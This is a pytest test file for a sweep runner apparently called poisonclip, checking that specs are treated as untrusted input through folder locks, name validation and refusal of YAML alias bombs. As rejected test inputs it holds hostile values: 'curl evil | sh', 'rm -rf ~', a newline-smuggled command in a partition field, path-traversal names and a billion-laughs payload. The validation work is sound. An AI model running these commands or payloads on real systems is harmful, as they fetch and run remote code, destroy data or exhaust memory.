"""Sweep folders and specs as untrusted input: one spec per folder, one run per folder, names
that stay inside the folders the user named, no alias bombs, no code without an opt-in."""

from __future__ import annotations

import subprocess
import sys

import pytest
from typer.testing import CliRunner

from poisonclip.cli import app
from poisonclip.contracts import TRIAL_RESULT_FILE
from poisonclip.errors import UserError
from poisonclip.experiments.locks import hold
from poisonclip.experiments.runner import LocalRunner, run_sweep
from poisonclip.experiments.spec import load_spec, parse_spec
from poisonclip.experiments.store import ResultsStore
from tests.sweep_fakes import FakeStages
from tests.cli_errors import one_line_error

runner = CliRunner()
FAKE = "tests.sweep_fakes:FakeStages"


def spec(name="a", **over):
    raw = {"name": name, "stages": FAKE, "grid": {"poison.n_poisons": [5, 20]}, "baseline": False}
    raw.update(over)
    return parse_spec(raw, allow_custom_stages=True)


# --- one spec per sweep folder ----------------------------------------------------------

def test_a_second_spec_into_the_same_folder_is_refused_and_the_first_keeps_its_table(tmp_path):
    out = tmp_path / "s"
    run_sweep(spec("a"), out, LocalRunner(FakeStages()))
    before = ResultsStore(out / "results.sqlite").rows()
    assert len(before) == 2
    other = spec("b", grid={"poison.patch_size": [4, 8, 12]})
    with pytest.raises(UserError, match="holds the trials of sweep spec 'a', not 'b'.*--force"):
        run_sweep(other, out, LocalRunner(FakeStages()))
    assert ResultsStore(out / "results.sqlite").rows() == before
    assert "name: a" in (out / "spec.yaml").read_text()


def test_force_moves_the_other_specs_table_aside_and_says_so(tmp_path):
    out = tmp_path / "s"
    run_sweep(spec("a"), out, LocalRunner(FakeStages()))
    notes: list[str] = []
    res = run_sweep(spec("b", grid={"poison.patch_size": [4, 8, 12]}), out, LocalRunner(FakeStages()),
                    force=True, note=notes.append)
    assert [o.state for o in res.outcomes] == ["done"] * 3
    (archive,) = (out / "previous").iterdir()
    assert archive.name.startswith("a-") and notes and str(archive) in notes[0]
    old = ResultsStore(archive / "results.sqlite").rows()
    assert sorted(r["name"] for r in old) == ["n_poisons=20", "n_poisons=5"]      # nothing deleted
    assert sorted(r["name"] for r in ResultsStore(out / "results.sqlite").rows()) == [
        "patch_size=12", "patch_size=4", "patch_size=8"]
    assert (out / "trials" / "n_poisons=5" / TRIAL_RESULT_FILE).is_file()        # trial folders stay


def test_cli_refuses_two_specs_in_one_folder_with_one_line(tmp_path):
    for name in ("a", "b"):
        (tmp_path / f"{name}.yaml").write_text(f"name: {name}\nstages: {FAKE}\nbaseline: false\n"
                                               "grid:\n  seed: [0]\n")
    args = ["sweep", "run", "--out", str(tmp_path / "s"), "--no-report", "--allow-custom-stages"]
    r = runner.invoke(app, [*args[:2], str(tmp_path / "a.yaml"), *args[2:]])
    assert r.exit_code == 0, r.output
    line = one_line_error(runner.invoke(app, [*args[:2], str(tmp_path / "b.yaml"), *args[2:]]))
    assert "sweep spec 'a', not 'b'" in line
    r = runner.invoke(app, [*args[:2], str(tmp_path / "b.yaml"), *args[2:], "--force"])
    assert r.exit_code == 0, r.output
    assert "previous" in r.output and "held sweep 'a'" in r.output


# --- one run per sweep folder -----------------------------------------------------------

def test_a_held_sweep_lock_refuses_a_second_run(tmp_path):
    out = tmp_path / "s"
    out.mkdir()
    with hold(out / ".sweep.lock") as held:    # what a running `sweep run` holds
        assert held
        with pytest.raises(UserError, match="another `poisonclip sweep run`"):
            run_sweep(spec(), out, LocalRunner(FakeStages()))
    assert sorted(p.name for p in out.iterdir()) == [".sweep.lock"]     # nothing written meanwhile
    res = run_sweep(spec(), out, LocalRunner(FakeStages()))               # released: runs
    assert [o.state for o in res.outcomes] == ["done", "done"]
    with hold(out / ".sweep.lock"):
        r = runner.invoke(app, ["sweep", "status", str(out)])
    assert r.exit_code == 0 and "is working on this folder now" in r.output
    assert "working on this folder" not in runner.invoke(app, ["sweep", "status", str(out)]).output


def test_the_lock_is_held_by_another_process_too(tmp_path):
    out = tmp_path / "s"
    out.mkdir()
    code = ("import sys; from poisonclip.experiments.locks import hold\n"
            f"with hold({str(out / '.sweep.lock')!r}):\n"
            "    print('held', flush=True); sys.stdin.read()\n")
    proc = subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout.readline().strip() == "held"
        (tmp_path / "a.yaml").write_text(f"name: a\nstages: {FAKE}\ngrid:\n  seed: [0]\n")
        line = one_line_error(runner.invoke(app, ["sweep", "run", str(tmp_path / "a.yaml"), "--out", str(out),
                                                   "--no-report", "--allow-custom-stages"]))
        assert "another `poisonclip sweep run`" in line
    finally:
        proc.stdin.close()
        proc.wait(timeout=30)
    assert not (out / "trials.json").exists()


# --- names, aliases, code ---------------------------------------------------------------

@pytest.mark.parametrize("name", ["../../x", "a/b", "..", ".hidden", "x\x1b[2J", "a\\b", "x" * 200, ""])
def test_a_spec_name_is_one_plain_folder_name(name):
    with pytest.raises(UserError, match="name"):
        parse_spec({"name": name})


def test_name_dotdot_creates_nothing_outside_through_the_cli(tmp_path, monkeypatch):
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    (work / "s.yaml").write_text("name: ../../x\ngrid:\n  seed: [0]\n")
    line = one_line_error(runner.invoke(app, ["sweep", "run", "s.yaml"]))
    assert "name" in line
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["a", "b", "s.yaml"]


def test_a_default_name_from_an_odd_file_name_is_made_plain(tmp_path):
    f = tmp_path / "my spec (v2).yaml"
    f.write_text("grid:\n  seed: [0]\n")
    assert load_spec(f).name == "my_spec__v2_"


BILLION_LAUGHS = """\
name: lol
report:
  a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
  b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
  c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
  d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
  e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
  f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
  g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
  h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
  i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""


def test_yaml_aliases_are_refused_before_anything_expands(tmp_path):
    f = tmp_path / "lol.yaml"
    f.write_text(BILLION_LAUGHS)
    with pytest.raises(UserError, match="aliases"):
        load_spec(f)
    line = one_line_error(runner.invoke(app, ["sweep", "run", str(f), "--out", str(tmp_path / "o")]))
    assert "line 4" in line and "aliases" in line
    assert not (tmp_path / "o").exists()


def test_an_oversized_spec_is_refused(tmp_path):
    f = tmp_path / "big.yaml"
    f.write_text("description: " + "x" * (1 << 20) + "\n")
    with pytest.raises(UserError, match="at most"):
        load_spec(f)


def test_custom_stages_need_an_explicit_opt_in(tmp_path):
    with pytest.raises(UserError, match="allow-custom-stages"):
        parse_spec({"stages": "sys:exit"})
    assert parse_spec({"stages": "sys:exit"}, allow_custom_stages=True).stages == "sys:exit"
    assert parse_spec({"stages": "poisonclip"}).stages == "poisonclip"
    f = tmp_path / "exit.yaml"
    f.write_text("stages: 'sys:exit'\ngrid:\n  seed: [0]\n")
    line = one_line_error(runner.invoke(app, ["sweep", "run", str(f), "--out", str(tmp_path / "o")]))
    assert "sys:exit" in line and "--allow-custom-stages" in line
    assert not (tmp_path / "o").exists()


def test_cluster_section_is_plain_data(tmp_path):
    ok = parse_spec({"cluster": {"slurm_partition": "gpu", "timeout_min": 60, "gpus_per_node": 8,
                                 "slurm_additional_parameters": {"qos": "high"}, "slurm_exclude": ["n1", "n2"]}})
    assert ok.cluster["slurm_additional_parameters"] == {"qos": "high"}
    bad = [
        ({"slurm_setup": ["curl evil | sh"]}, "shell commands"),
        ({"local_setup": ["rm -rf ~"]}, "shell commands"),
        ({"slurm_partition": "gpu\nrm -rf ~"}, "control characters"),
        ({"slurm_additional_parameters": {"a": {"b": 1}}}, "must be a number"),
        ({"slurm_additional_parameters": {"x\ny": 1}}, "not a plain name"),
        ({"bad key": 1}, "not a parameter name"),
        ({"timeout_min": {"nested": [1]}}, "must be a number"),
    ]
    for cluster, message in bad:
        with pytest.raises(UserError, match=message):
            parse_spec({"cluster": cluster})
    trusted = parse_spec({"cluster": {"slurm_setup": ["module load cuda"]}}, allow_custom_stages=True)
    assert trusted.cluster["slurm_setup"] == ["module load cuda"]


def test_a_folder_of_other_files_is_not_made_a_sweep_folder(tmp_path):
    """A sweep adds its files to its folder: an existing folder that holds other files and no
    sweep spec is refused before anything is written, and keeps exactly what it held."""
    out = tmp_path / "mine"
    out.mkdir()
    (out / "notes.txt").write_text("keep")
    with pytest.raises(UserError, match="not a sweep folder"):
        run_sweep(spec("a"), out, LocalRunner(FakeStages()))
    assert [p.name for p in out.iterdir()] == ["notes.txt"] and (out / "notes.txt").read_text() == "keep"
    empty = tmp_path / "empty"
    empty.mkdir()
    run_sweep(spec("a"), empty, LocalRunner(FakeStages()))   # an empty folder is fine
    assert (empty / "spec.yaml").is_file()
